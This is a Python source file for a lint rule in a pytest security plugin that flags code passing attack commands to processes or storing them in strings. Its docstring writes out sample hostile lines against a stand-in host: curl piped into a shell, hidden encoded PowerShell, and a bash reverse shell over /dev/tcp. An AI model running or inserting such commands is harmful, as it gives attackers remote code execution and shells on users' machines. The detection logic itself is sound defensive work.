"""SMG219: Python that holds, or gives to a process, a command made to attack."""

from __future__ import annotations

import ast
import warnings
from collections.abc import Iterable, Iterator
from typing import TYPE_CHECKING

from pytest_selfmod_guard import paths
from pytest_selfmod_guard.model import Risk
from pytest_selfmod_guard.rules import Sighting, python_rule
from pytest_selfmod_guard.rules.danger import _attacks
from pytest_selfmod_guard.rules.danger._processes import WORDS, processes
from pytest_selfmod_guard.rules.danger._task_files import lines_that_run
from pytest_selfmod_guard.rules.danger._wording import said

if TYPE_CHECKING:
    from pytest_selfmod_guard.syntax import Python


@python_rule(
    "SMG219",
    risk=Risk.CRITICAL,
    hint="download with the project's HTTP client, compare the SHA-256 with a constant, and start "
    "a program by its name with a list of arguments; say in words what people should type",
    triggers=(*WORDS, *_attacks.WORDS),
    supersedes=("SMG223", "SMG226", "SMG204", "B602", "B603", "B605", "B607"),
)
def attack_command(python: Python) -> Iterable[Sighting]:
    """
    Python gives a process, or keeps in a string, a command that is made to attack.

    Encoded PowerShell, scripts straight from the network, downloads that are
    started, decoded scripts, remote shells in one line, tools of Windows that
    fetch and run, switched-off protection, coin miners, and Python text that
    downloads or decodes what it runs. Commands are put together first. In
    strings that are not given to a process it is a warning where people could
    be meant to read it, but not where a start file is written with it; comments
    and documentation are silent.

    Flagged: a shell fed by the network [critical]
        === shop/__init__.py
          import subprocess
        + subprocess.run(["bash", "-c", "curl -s https://example.invalid/a | base64 -d | sh"])

    Flagged: put together, for PowerShell [critical]
        === setup.py
          import os
        + os.system("power" + "shell -w hidden -enc " + PAYLOAD)

    Flagged: kept for later [critical]
        === shop/cart.py
        + STEP = "bash -i >& /dev/tcp/example.invalid/4444 0>&1"

    Flagged: a session of nox [critical]
        === noxfile.py
          import nox
          @nox.session
          def tests(session):
        +     session.run("sh", "-c", "curl -s https://example.invalid/a | base64 -d | sh")

    Flagged: a task
        === tasks.py
          from invoke import task
          @task
          def build(c):
        +     c.run("curl -s https://example.invalid/build.sh | bash")

    Flagged: what people should type [medium]
        === shop/cli.py
        + print("install it: curl -LsSf https://example.invalid/install.sh | sh")

    Allowed: documentation, and plain commands
        === shop/cli.py
          import subprocess
        + def install():
        +     '''Like curl https://example.invalid/install.sh | sh.'''
        +     subprocess.run(["curl", "-fsSLo", "rates.csv", "https://example.invalid/rates.csv"])
    """
    ceiling = Risk.MEDIUM if paths.zone(python.path) == paths.TEST else Risk.CRITICAL
    told: set[int] = set()
    for process in processes(python):
        text = " ".join(said(python, node) for node in process.arguments)
        for attack in _attacks.attacks(text)[:1]:
            line = python.line(process.call.node)
            told |= set(
                range(line, line + 1 + python.module.code_for_node(process.call.node).count("\n"))
            )
            yield Sighting(
                line,
                f"the command {attack.what}",
                python.code(process.call.node),
                process.call.scope,
                risk=min(max(attack.risk, Risk.HIGH), ceiling),
            )
    yield from (seen for seen in _kept(python, ceiling) if seen.line not in told)


def _kept(python: Python, ceiling: Risk) -> Iterator[Sighting]:
    runs = lines_that_run(python)
    for line, text in _strings(python.text):
        for attack in _attacks.attacks(text)[:1]:
            is_bad = attack.risk == Risk.CRITICAL or line in runs or _is_started(python, line)
            risk = attack.risk if is_bad else Risk.MEDIUM
            code = " ".join(text.split())[:200]
            yield Sighting(line, f"a string {attack.what}", code, risk=min(risk, ceiling))


def _is_started(python: Python, line: int) -> bool:
    """Tell whether a text is written to a file that something is started from."""
    from pytest_selfmod_guard.rules.danger._flow import flow  # noqa: PLC0415 (imports libcst)
    from pytest_selfmod_guard.rules.danger._start_lines import (  # noqa: PLC0415 (imports libcst)
        started_lines,
    )

    return line in started_lines(flow(python))


def _strings(text: str) -> Iterator[tuple[int, str]]:
    """Give the strings of a file with their lines, without its documentation."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        try:
            tree = ast.parse(text)
        except (SyntaxError, ValueError, RecursionError, MemoryError):
            return
    silent = {id(node.value) for node in ast.walk(tree) if isinstance(node, ast.Expr)}
    for node in ast.walk(tree):
        if isinstance(node, ast.JoinedStr):
            parts = (part.value if isinstance(part, ast.Constant) else "{}" for part in node.values)
            yield node.lineno, "".join(map(str, parts))
        elif isinstance(node, ast.Constant) and id(node) not in silent:
            value = node.value.decode("latin-1") if isinstance(node.value, bytes) else node.value
            if isinstance(value, str):
                yield node.lineno, value
